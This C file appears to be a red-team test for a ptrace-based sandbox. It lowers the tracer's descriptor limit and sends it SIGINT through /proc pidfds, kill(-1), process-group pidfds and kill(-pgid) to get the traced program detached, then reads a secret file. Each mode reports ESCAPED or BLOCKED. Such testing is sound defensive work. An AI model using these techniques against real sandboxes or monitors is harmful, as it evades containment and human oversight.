/* sig_limit.c: a signal to the tracer through its /proc directory, once the tracer is out of
 * descriptors (issue 11, red team 32; class 6, attacks on the tracer -- gap #10's guard).
 *
 * pidfd_send_signal takes a descriptor of a /proc/PID directory as a pidfd; the guard that
 * refuses signals to the tracer (signals.pidfd_aims_at_tracer) tells such a directory by
 * opening it and the "stat" file in it -- two descriptors at once.  prlimit64 on the tracer's
 * pid is permitted (a denial of service: docs/security.md), so the program lowers the
 * tracer's RLIMIT_NOFILE to one above what it holds: the guard's first open succeeds, its
 * second fails EMFILE, and the directory was taken for another process's -- the signal went
 * to the tracer.  Under --attach, SIGINT to the tracer detaches the tree: the program then
 * runs untraced.  The limit is found by going down from 256, sending signal 0 (which checks
 * and delivers nothing) at each, the limit put back after each try.
 *
 *   sig_limit control        natively: a child's RLIMIT_NOFILE lowered, SIGINT sent to it
 *                            through its /proc directory -- ESCAPED when it died of it
 *   sig_limit probe          traced: ESCAPED when a signal 0 through the tracer's /proc
 *                            directory got through at some limit, else BLOCKED
 *   sig_limit attach SECRET  prints "ready PID", waits to be traced, then as probe, and where
 *                            it gets through sends SIGINT: ESCAPED when SECRET is then read
 *   sig_limit read SECRET    reads SECRET: ESCAPED when it holds the secret
 *
 * The same class without the limit: the tracer took over a signal to a group that holds it
 * (kill(0), kill(-pgid), kill(-1): signals.signal_group) only when the signal would end it;
 * SIGINT, which under --attach the tracer handles by detaching, went to it through
 * kill(-1, SIGINT).  (Run as a uid of its own: kill(-1) reaches every process of the uid.)
 *
 *   sig_limit group-control  natively: kill(-1, SIGINT) ends a child of the same uid that
 *                            waits: ESCAPED
 *   sig_limit group SECRET   prints "ready PID", waits to be traced, kill(-1, SIGINT):
 *                            ESCAPED when SECRET is then read
 *
 * And pidfd_send_signal with PIDFD_SIGNAL_PROCESS_GROUP: it signals the process group whose
 * id is the pidfd's pid.  The guard asked only whether the pidfd was the tracer's; a pidfd of
 * the leader of the tracer's group (a shell that started systrace --attach) sent the group --
 * the tracer in it -- SIGINT.
 *
 *   sig_limit pgroup SECRET  prints "ready PID", waits to be traced, sends SIGINT to the
 *                            tracer's process group through a pidfd of its leader: ESCAPED
 *                            when SECRET is then read
 *
 * And kill(-pgid) once more, the tracer out of descriptors (red team 38): signal_group read
 * the caller's and the tracer's credentials from /proc, and took a caller it could not read
 * for one gone -- the call went to the kernel, and SIGINT to the tracer's group.
 *
 *   sig_limit glimit-control natively: a child leading a group of its own, its descriptor
 *                            limit lowered to 0, is ended by kill(-pgid, SIGINT): ESCAPED
 *   sig_limit glimit SECRET  prints "ready PID", waits to be traced, then lowers the tracer's
 *                            RLIMIT_NOFILE from 64 down, sending kill(-its group, SIGINT) at
 *                            each (the limit put back after each): ESCAPED when SECRET is
 *                            then read
 */
#include "attack.h"
#include <sys/resource.h>

static long send_through(int dirfd, int sig) {
    return syscall(SYS_pidfd_send_signal, dirfd, sig, NULL, 0);
}

/* The limit at which a signal 0 through dirfd (the tracer's /proc directory) gets through:
 * it, or 0 when none does.  The tracer's limit is put back after each try. */
static int find_limit(pid_t tracer, int dirfd, struct rlimit *old) {
    if (prlimit(tracer, RLIMIT_NOFILE, NULL, old) < 0)
        blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
    for (int limit = 256; limit > 0; limit--) {
        struct rlimit lowered = {(rlim_t)limit, old->rlim_max};
        if (prlimit(tracer, RLIMIT_NOFILE, &lowered, NULL) < 0)
            blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
        long rc = send_through(dirfd, 0);
        if (rc == 0)
            return limit;  /* (still lowered: the caller sends and puts it back) */
        prlimit(tracer, RLIMIT_NOFILE, old, NULL);
    }
    return 0;
}

static int open_proc_dir(pid_t pid) {
    char name[64];
    snprintf(name, sizeof name, "/proc/%d", (int)pid);
    int fd = open(name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        blocked("open %s: %s", name, ename(errno));
    return fd;
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "control") == 0) {
        signal(SIGINT, SIG_DFL);  /* (a background job's shell ignored it for us: CI) */
        pid_t child = fork();
        if (child == 0) {
            for (;;)
                pause();
        }
        struct rlimit lowered = {4, 4};
        if (prlimit(child, RLIMIT_NOFILE, &lowered, NULL) < 0)
            blocked("prlimit of %d: %s", child, ename(errno));
        int dirfd = open_proc_dir(child);
        if (send_through(dirfd, SIGINT) < 0)
            blocked("pidfd_send_signal: %s", ename(errno));
        int status;
        waitpid(child, &status, 0);
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGINT)
            escaped("a process of the user's, its descriptor limit lowered, got SIGINT "
                    "through its /proc directory");
        blocked("the child ended otherwise (status %#x)", status);
    }
    if (argc == 2 && strcmp(argv[1], "probe") == 0) {
        pid_t tracer = tracer_pid();
        if (tracer <= 0)
            blocked("not traced");
        int dirfd = open_proc_dir(tracer);
        if (send_through(dirfd, 0) == 0)
            escaped("a signal reached the tracer through its /proc directory");
        struct rlimit old;
        int limit = find_limit(tracer, dirfd, &old);
        prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
        if (limit)
            escaped("a signal reached the tracer through its /proc directory, its descriptor "
                    "limit lowered to %d", limit);
        blocked("no descriptor limit let a signal reach the tracer");
    }
    if (argc == 3 && strcmp(argv[1], "attach") == 0) {
        printf("ready %d\n", (int)getpid());
        fflush(stdout);
        pid_t tracer = 0;
        for (int i = 0; i < 3000 && (tracer = tracer_pid()) == 0; i++)
            usleep(10000);
        if (tracer <= 0)
            blocked("never traced");
        int dirfd = open_proc_dir(tracer);
        struct rlimit old;
        int limit = find_limit(tracer, dirfd, &old);
        if (!limit)
            blocked("no descriptor limit let a signal reach the tracer");
        long rc = send_through(dirfd, SIGINT);
        int err = errno;
        prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
        if (rc < 0)
            blocked("SIGINT to the tracer, its limit %d: %s", limit, ename(err));
        note("SIGINT sent to the tracer %d, its descriptor limit lowered to %d", tracer, limit);
        for (int i = 0; i < 500 && tracer_pid() != 0; i++)
            usleep(10000);
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s (still traced: %d)", argv[2], ename(errno), tracer_pid());
        if (is_secret_fd(fd))
            escaped("read the secret %s, untraced (TracerPid %d)", argv[2], tracer_pid());
        blocked("%s is no secret", argv[2]);
    }
    if (argc == 2 && strcmp(argv[1], "group-control") == 0) {
        signal(SIGINT, SIG_DFL);  /* (a background job's shell ignored it for us: CI) */
        pid_t child = fork();
        if (child == 0) {
            for (;;)
                pause();
        }
        usleep(100000);
        signal(SIGINT, SIG_IGN);  /* (kill(-1) spares the caller anyway) */
        if (kill(-1, SIGINT) < 0)
            blocked("kill(-1): %s", ename(errno));
        int status;
        waitpid(child, &status, 0);
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGINT)
            escaped("kill(-1, SIGINT) reached another process of the uid's");
        blocked("the child ended otherwise (status %#x)", status);
    }
    if (argc == 3 && strcmp(argv[1], "group") == 0) {
        printf("ready %d\n", (int)getpid());
        fflush(stdout);
        pid_t tracer = 0;
        for (int i = 0; i < 3000 && (tracer = tracer_pid()) == 0; i++)
            usleep(10000);
        if (tracer <= 0)
            blocked("never traced");
        usleep(200000);  /* (the attach settled) */
        signal(SIGINT, SIG_IGN);
        if (kill(-1, SIGINT) < 0)
            blocked("kill(-1, SIGINT): %s", ename(errno));
        note("kill(-1, SIGINT) sent, traced by %d", tracer);
        for (int i = 0; i < 300 && tracer_pid() != 0; i++)
            usleep(10000);
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s (traced by %d)", argv[2], ename(errno), tracer_pid());
        if (is_secret_fd(fd))
            escaped("read the secret %s, untraced (TracerPid %d)", argv[2], tracer_pid());
        blocked("%s is no secret", argv[2]);
    }
    if (argc == 3 && strcmp(argv[1], "pgroup") == 0) {
        printf("ready %d\n", (int)getpid());
        fflush(stdout);
        pid_t tracer = 0;
        for (int i = 0; i < 3000 && (tracer = tracer_pid()) == 0; i++)
            usleep(10000);
        if (tracer <= 0)
            blocked("never traced");
        usleep(200000);  /* (the attach settled) */
        pid_t group = getpgid(tracer);
        int leader = (int)syscall(SYS_pidfd_open, group, 0);
        if (leader < 0)
            blocked("pidfd_open of the group's leader %d: %s", group, ename(errno));
        if (syscall(SYS_pidfd_send_signal, leader, SIGINT, NULL, 0x4 /* PROCESS_GROUP */) < 0)
            blocked("SIGINT to the group %d: %s", group, ename(errno));
        note("SIGINT sent to the tracer's process group %d, traced by %d", group, tracer);
        for (int i = 0; i < 300 && tracer_pid() != 0; i++)
            usleep(10000);
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s (traced by %d)", argv[2], ename(errno), tracer_pid());
        if (is_secret_fd(fd))
            escaped("read the secret %s, untraced (TracerPid %d)", argv[2], tracer_pid());
        blocked("%s is no secret", argv[2]);
    }
    if (argc == 2 && strcmp(argv[1], "glimit-control") == 0) {
        pid_t child = fork();
        if (child == 0) {
            signal(SIGINT, SIG_DFL);
            setpgid(0, 0);
            for (;;)
                pause();
        }
        setpgid(child, child);
        usleep(100000);
        struct rlimit none = {0, 0};
        if (prlimit(child, RLIMIT_NOFILE, &none, NULL) < 0)
            blocked("prlimit of %d: %s", child, ename(errno));
        if (kill(-child, SIGINT) < 0)
            blocked("kill(-%d, SIGINT): %s", child, ename(errno));
        int status;
        waitpid(child, &status, 0);
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGINT)
            escaped("kill(-pgid, SIGINT) ended a process of that group, its descriptor limit "
                    "lowered to 0");
        blocked("the child ended otherwise (status %#x)", status);
    }
    if (argc == 3 && strcmp(argv[1], "glimit") == 0) {
        printf("ready %d\n", (int)getpid());
        fflush(stdout);
        pid_t tracer = 0;
        for (int i = 0; i < 3000 && (tracer = tracer_pid()) == 0; i++)
            usleep(10000);
        if (tracer <= 0)
            blocked("never traced");
        usleep(200000);  /* (the attach settled) */
        pid_t group = getpgid(tracer);
        struct rlimit old;
        if (prlimit(tracer, RLIMIT_NOFILE, NULL, &old) < 0)
            blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
        int refused = 0;
        for (int limit = 64; limit >= 0 && tracer_pid() != 0; limit--) {
            struct rlimit lowered = {(rlim_t)limit, old.rlim_max};
            if (prlimit(tracer, RLIMIT_NOFILE, &lowered, NULL) < 0)
                blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
            long rc = kill(-group, SIGINT);
            int err = errno;
            prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
            refused += rc < 0;
            for (int i = 0; i < 20 && tracer_pid() != 0; i++)
                usleep(10000);
            if (rc < 0 && limit % 16 == 0)
                note("limit %d: kill(-%d, SIGINT): %s", limit, group, ename(err));
        }
        note("kill(-%d, SIGINT) at every limit from 64 down, %d refused; traced by %d", group,
             refused, tracer_pid());
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s (traced by %d)", argv[2], ename(errno), tracer_pid());
        if (is_secret_fd(fd))
            escaped("read the secret %s, untraced (TracerPid %d)", argv[2], tracer_pid());
        blocked("%s is no secret", argv[2]);
    }
    if (argc == 3 && strcmp(argv[1], "read") == 0) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        if (is_secret_fd(fd))
            escaped("read the secret %s", argv[2]);
        blocked("%s is no secret", argv[2]);
    }
    usage("sig_limit control | probe | attach SECRET | group-control | group SECRET | "
          "pgroup SECRET | glimit-control | glimit SECRET | read SECRET");
}
